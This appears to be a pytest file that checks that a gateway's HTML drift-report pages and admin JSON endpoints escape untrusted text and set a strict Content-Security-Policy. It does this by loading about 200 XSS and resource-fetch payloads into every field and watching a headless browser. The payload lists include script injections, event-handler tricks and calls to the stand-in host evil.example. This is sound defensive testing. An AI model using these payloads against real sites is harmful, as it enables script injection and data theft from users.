"""What apps and models say, shown to an operator: in a real browser it stays text (FAILURES T8).

Whatever the gate makes for a browser is visited with hundreds of payloads in every field that a client has a say in: the page of a drift run, and the admin
port's JSON, which a browser is only ever led to by a link. That the browser would tell is shown by a page that does run them.
"""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import datetime as dt
from collections.abc import AsyncIterator, Iterable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from gateway.console.app import Listener, application
from gateway.drift.page import page
from gateway.drift.page_trend import Past
from gateway.exchange import Exchange
from gateway.store.queries import Page
from tests.support.browser import PROGRAM, Visit, browser
from tests.support.drift_reports import LENGTH, report, topic

EVIL = "http://evil.example/x"
ACTS = ("alert(1)", f"fetch('{EVIL}')", "parent.document.title=alert(2)")
RUNS = [  # {} is what is to happen
    "<script>{}</script>", "<ScRiPt >{}</sCrIpT>", "<script\n>{}</script\n>", "<script/x>{}</script>", "<<script>{}//<</script>", "<scr<script>ipt>{}</scr</script>ipt>", "<script>{}<!--", "<script>//\u2028{}</script>",
    "<img src=x onerror={}>", "<img src=x onerror=\"{}\">", "<IMG SRC=x ONERROR={} //", "<img/src/onerror={}>", "<image src=x onerror={}>", "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set onbegin={} attributename=x>", "<svg><a xlink:href='javascript:{}'><text>x</text></a></svg>", "<svg><style><img src=x onerror={}></style></svg>", "<math><mtext><table><mglyph><style><img src=x onerror={}>", "<body onload={}>",
    "<body onpageshow={}>", "<iframe src=\"javascript:{}\">", "<iframe srcdoc=\"<script>{}</script>\">", "<iframe onload={}>", "<object data=\"javascript:{}\">", "<embed src=\"javascript:{}\">", "<a href=\"javascript:{}\" autofocus onfocus={}>x</a>", "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<details open ontoggle={}>", "<video><source onerror={}>", "<video src=x onerror={}>", "<audio src=x onerror={}>", "<marquee onstart={}>", "<meter onmouseover={}>0</meter>", "<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={}>",
    "<form><button formaction=javascript:{}>x", "<isindex type=image src=1 onerror={}>", "<template><script>{}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "\"><script>{}</script>", "'><script>{}</script>", "\" onmouseover={} x=\"", "' onfocus={} autofocus x='", "\"><img src=x onerror={}>",
    "</title><script>{}</script>", "</style><script>{}</script>", "</textarea><script>{}</script>", "</script><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "</svg><script>{}</script>", "</blockquote></article><script>{}</script>", "javascript:{}", "data:text/html,<script>{}</script>",
    "<xss id=x tabindex=1 onfocus={}></xss>", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "+ADw-script+AD4-{}+ADw-/script+AD4-", "\x00<script>{}</script>", "<\x00script>{}</script>", "\u202e<script>{}</script>", "\ufeff<script>{}</script>", "${{{}}}", "{{{{{}}}}}",
]  # fmt: skip
ASKS = [  # without a script, for something elsewhere
    f"<img src={EVIL}>", f"<img srcset='{EVIL} 2x'>", f"<link rel=stylesheet href={EVIL}>", f"<link rel=prefetch href={EVIL}>", f"<link rel=dns-prefetch href={EVIL}>", f"<link rel=preconnect href={EVIL}>", f"<style>@import '{EVIL}';</style>", f"<style>body{{background:url({EVIL})}}</style>",
    f"<b style='background:url({EVIL})'>x</b>", f"<meta http-equiv=refresh content='0;url={EVIL}'>", f"<base href={EVIL}>", f"<iframe src={EVIL}>", f"<object data={EVIL}>", f"<embed src={EVIL}>", f"<video poster={EVIL} src={EVIL}>", f"<audio src={EVIL} autoplay>", f"<svg><image href={EVIL} /></svg>", f"<svg><use href='{EVIL}#x'/></svg>",
    f"<svg><feImage href={EVIL}></svg>", f"<form action={EVIL}><input type=image src={EVIL}></form>", f"<table background={EVIL}>", f"<script src={EVIL}></script>", f"![x]({EVIL})", f"[x]({EVIL})", f"<a ping={EVIL} href=x>x</a>", f"<track src={EVIL}>", f"<input type=image src={EVIL}>", f"<body background={EVIL}>", f"<frameset><frame src={EVIL}>",
]  # fmt: skip
PAYLOADS = [each.format(*[act] * each.count("{}")) if "{}" in each else each for act in ACTS for each in RUNS] + ASKS
# What is on a page that a benign text would not have made; and whether any element has a handler or leads anywhere.
QUESTION = """(() => { const all = [...document.querySelectorAll('*')]; return {
    odd: all.filter(e => ['SCRIPT', 'IFRAME', 'IMG', 'IMAGE', 'OBJECT', 'EMBED', 'LINK', 'FORM', 'INPUT', 'BASE', 'A', 'VIDEO', 'AUDIO', 'USE', 'FRAME'].includes(e.tagName.toUpperCase())).map(e => e.outerHTML),
    leads: all.filter(e => [...e.attributes].some(a => a.name.startsWith('on') || ['href', 'src', 'srcdoc', 'action', 'xlink:href', 'ping', 'background', 'poster'].includes(a.name))).map(e => e.outerHTML),
    text: document.body ? document.body.textContent.length : 0 } })()"""


class Tags(HTMLParser):
    """Elements and attributes of a page, in order."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[str, ...]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, tuple(name for name, _ in attrs)))


class Stored:
    """A store in whose every text there are payloads."""

    def __init__(self, payloads: list[str]) -> None:
        text = "\n".join(payloads)
        self.row = {field.name: text for field in dataclasses.fields(Exchange)}
        self.run = {"id": "x", "topics": [{"keywords": payloads, "exemplars": payloads, "label": text}], "report": None, "app": text, "notes": payloads}

    async def page(self, _question: Any) -> Page:
        return Page([self.row], None)

    async def one(self, _id: Any) -> dict[str, Any]:
        return self.row

    async def drift_runs(self, _asked: Any, *, topics: bool) -> list[dict[str, Any]]:
        return [self.run]

    async def drift_run(self, _id: Any) -> dict[str, Any]:
        return self.run


def shown(text: str, payloads: list[str]) -> str:
    """The page of a drift run with `text` in each field that there is one of, and the payloads in those that there are many of."""
    past = [Past(dt.datetime(2026, 11, 1 + day, tzinfo=dt.UTC), 0.001, True, 0.1, ((0, 0.1),)) for day in range(3)]
    topics = tuple(topic(keywords=(each, text), exemplars=(each, each[::-1])) for each in payloads) or (topic(),)
    features = tuple(dataclasses.replace(LENGTH, feature=each, effect=each) for each in payloads)
    made = report(topics=topics, structure=features, notes=tuple(payloads))
    return page(made, names=(text, text), past=past, facts=[text, *payloads], labels={place: each for place, each in enumerate(payloads[::2])}, every=True)


async def headers_of(reader: asyncio.StreamReader) -> AsyncIterator[bytes]:
    """Header lines in lower case."""
    while line := (await reader.readline()).strip().lower():
        yield line


@contextlib.asynccontextmanager
async def serving(pages: dict[str, str]) -> AsyncIterator[tuple[str, list[str]]]:
    """(the address of an HTTP server with these pages, requests for anything of EVIL's host): also where every other name leads, those that the browser itself asks for among them."""
    strange: list[str] = []

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(ValueError, ConnectionError):  # what is no HTTP, and who has left
            line = (await reader.readline()).decode("latin-1").split(" ")
            head = [line async for line in headers_of(reader)]
            body = pages.get(line[1] if len(line) > 1 else "")
            if b"host: evil.example" in head:
                strange.append(" ".join(line).strip())
            data = (body or "").encode("utf-8", "replace")
            writer.write(b"HTTP/1.1 %d x\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % (200 if body else 404, len(data)) + data)
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    try:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}", strange
    finally:
        server.close()


def foreign(visit: Visit, *own: str) -> list[str]:
    return [url for url in visit.requests if not url.startswith((*own, "data:,"))]


def in_parts(items: list[str], size: int) -> Iterable[list[str]]:
    return (items[at : at + size] for at in range(0, len(items), size))


@pytest.mark.covers("T8")
@pytest.mark.skipif(PROGRAM is None, reason="there is no Chromium here")
async def test_payloads_stay_text_in_a_browser(tmp_path: Path) -> None:
    """No dialog, no request, nothing that the page's policy had to stop: what is quoted is escaped, and the policy is only there in case it is not."""
    assert len(PAYLOADS) > 200
    pages = {f"/run/{n}": shown(" ".join(some), some) for n, some in enumerate(in_parts(PAYLOADS, 60))}
    pages["/control"] = "<!DOCTYPE html><title>x</title>" + "".join((PAYLOADS[0], f"<img src={EVIL}>"))
    async with serving(pages) as (address, strange), browser(tmp_path / "profile", elsewhere=int(address.rpartition(":")[2])) as chrome:
        control = await chrome.visit(f"{address}/control", QUESTION)
        assert control.dialogs == ["1"] and foreign(control, address) == [EVIL] and strange and control.found["odd"]  # a browser that would tell
        strange.clear()
        for path in pages:
            if path != "/control":
                visit = await chrome.visit(f"{address}{path}", QUESTION)
                assert (visit.dialogs, foreign(visit, address), visit.refused, visit.found["odd"], visit.found["leads"]) == ([], [], [], [], []), path
                assert visit.found["text"] > 10_000 and strange == []
        await _admin_port(chrome.visit, strange)


async def _admin_port(visit: Any, strange: list[str]) -> None:
    """Whoever follows a link to the admin port sees JSON as text, whatever the record holds and whatever the link says."""
    identity = "00000000-0000-0000-0000-000000000001"
    listener = Listener(application(run=Path("/nonexistent"), host="127.0.0.1", token=None, reader=Stored(PAYLOADS)))
    port = await listener.open("127.0.0.1", 0)
    address = f"http://127.0.0.1:{port}"
    said = quote("<script>alert(1)</script>")
    try:
        paths = ("/api/exchanges", f"/api/exchanges/{identity}", "/api/drift?app=x", f"/api/drift/{identity}", f"/api/exchanges?app={said}&limit={said}", f"/api/exchanges/{said}", f"/{said}", "/metrics")
        for path in paths:
            found = await visit(address + path, QUESTION)
            assert (found.dialogs, foreign(found, address), found.found["odd"], found.found["leads"]) == ([], [], [], []), path
        assert strange == []
    finally:
        await listener.close()


@pytest.mark.covers("T8")
def test_no_payload_changes_the_shape_of_a_page() -> None:
    """Each alone, in each field: the elements and attributes are those that plain words make."""
    plain = Tags(shown("plain", ["words"])).found
    assert [payload for payload in PAYLOADS if Tags(shown(payload, [payload])).found != plain] == []


@pytest.mark.covers("T8")
def test_a_page_asks_for_nothing_and_allows_nothing() -> None:
    """It is mailed and opened from a disk, where no server's header protects it: the policy is in it, before anything else could be."""
    text = shown("plain", ["words"])
    head = text.partition("<title>")[0]
    assert 'http-equiv="Content-Security-Policy" content="default-src \'none\'; style-src \'unsafe-inline\'; base-uri \'none\'; form-action \'none\'"' in head
    assert not {tag for tag, _ in Tags(text).found} & {"script", "img", "link", "iframe", "object", "embed", "form", "a", "base"}
    assert "http://" not in text.replace("http://www.w3.org/2000/svg", "") and "https://" not in text
